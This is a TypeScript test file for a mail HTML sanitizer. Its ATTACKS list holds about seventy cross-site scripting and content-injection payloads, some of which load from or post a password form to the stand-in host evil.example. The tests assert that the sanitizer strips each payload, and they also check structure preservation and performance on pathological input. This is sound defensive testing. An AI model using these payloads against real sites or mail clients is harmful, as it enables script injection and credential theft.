import { Parser } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { MAX_FOREIGN_HTML, sanitizeForeignHtml } from './foreign-html.ts'

const clean = (source: string) => sanitizeForeignHtml(source).text

/** Everything a browser would take from the text: tags and their attributes. */
function partsOf(text: string) {
  const parts: { tag: string; attributes: Record<string, string> }[] = []
  new Parser({ onopentag: (tag, attributes) => void parts.push({ tag, attributes }) }).end(text)
  return parts
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\t\n x>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" alt="logo">',
  '<img/src=x/onerror=alert(1)//',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=X></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/x">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
  '<p class="top" id="main">x</p>',
  '<table background="https://evil.example/x"><tr><td background=//evil.example/y>x</td></tr></table>',
  '<td colspan=1000000 rowspan="99999">x</td>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/files/1/2/3">x</a>',
  '<a href="https://evil.example/" target="_top" rel="opener" ping="https://evil.example/p" onclick="alert(1)">x</a>',
  '<a href="https://a.example/" style="position:fixed;top:0">x</a>',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option><script>alert(1)</script></select>',
  '<textarea></textarea><script>alert(1)</script>',
  '<video src="https://evil.example/x.mp4" autoplay><source src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1) background="https://evil.example/x">x</body>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '</p><script>alert(1)</script>',
  '</body></html><script>alert(1)</script>',
  '<p/onclick=alert(1)>x</p>',
  '<p \x00onclick=alert(1)>x</p>',
  '<<p>script>alert(1)<</p>/script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
]

describe('a mail’s HTML', () => {
  it.each(ATTACKS)('keeps nothing that runs, loads, sends or styles: %s', (attack) => {
    const shown = clean(`before ${attack} after`)
    for (const { tag, attributes } of partsOf(shown)) {
      const allowed =
        tag === 'a' ? ['href', 'rel', 'target'] : ['td', 'th'].includes(tag) ? ['colspan', 'rowspan'] : []
      expect(tag).not.toMatch(
        /^(script|style|img|image|svg|math|iframe|object|embed|form|input|button|base|meta|link)$/,
      )
      expect(Object.keys(attributes).filter((name) => !allowed.includes(name))).toEqual([])
      if (tag !== 'a' || attributes.href === undefined) continue
      expect(attributes.href).toMatch(/^(https?:\/\/[a-z]|mailto:|tel:)/)
      expect(attributes).toMatchObject({ rel: 'noopener noreferrer nofollow', target: '_blank' })
    }
    // What was cleaned once has nothing more to clean.
    expect(clean(shown)).toBe(shown)
    expect(shown).toMatch(/^before /)
  })

  it('keeps what people read: text, structure, links, and what images were of', () => {
    expect(
      clean(
        '<h2>您好</h2><p style="color:red">附件是<b>简历</b>：<a href="https://a.example/?x=1&amp;y=2" title=t>打开</a></p><table><tr><td colspan=2 width=9>电话</td></tr></table><img alt="头像" src=x><font size=7>字</font>',
      ),
    ).toBe(
      '<h2>您好</h2><p>附件是<b>简历</b>：<a href="https://a.example/?x=1&amp;y=2" rel="noopener noreferrer nofollow" target="_blank">打开</a></p><table><tr><td colspan="2">电话</td></tr></table><span>[头像]</span><span>字</span>',
    )
  })

  it('never lets a description of an image become markup', () => {
    expect(partsOf(clean('<img alt="<script>alert(1)</script>">')).map(({ tag }) => tag)).toEqual(['span'])
  })

  it('closes what it opens, so that the page around it stays whole', () => {
    expect(clean('<div><p>a<b>b')).toBe('<div><p>a<b>b</b></p></div>')
    expect(clean('a</div></body></html>')).toBe('a')
  })

  it('is cut and flattened to what a browser can show', () => {
    expect(clean('a'.repeat(MAX_FOREIGN_HTML + 5)).length).toBe(MAX_FOREIGN_HTML)
    expect(partsOf(clean('<div>'.repeat(50_000))).length).toBeLessThanOrEqual(101)
  })

  it.each([
    ['nesting', '<div>'.repeat(100_000)],
    ['attributes', `<a ${'x=y '.repeat(120_000)}>`],
    ['open angles', '<'.repeat(500_000)],
    ['open comments', '<!--'.repeat(120_000)],
    ['a link without end', `<a href="${' javascript:'.repeat(40_000)}">`],
    ['entities', '&lt;'.repeat(120_000)],
    ['unclosed inline tags', '<b><i>'.repeat(80_000)],
  ])('takes no more than a second of processor time for the longest mail of %s', (_what, source) => {
    const before = process.cpuUsage()
    clean(source)
    expect(process.cpuUsage(before).user).toBeLessThan(1_000_000)
  })
})
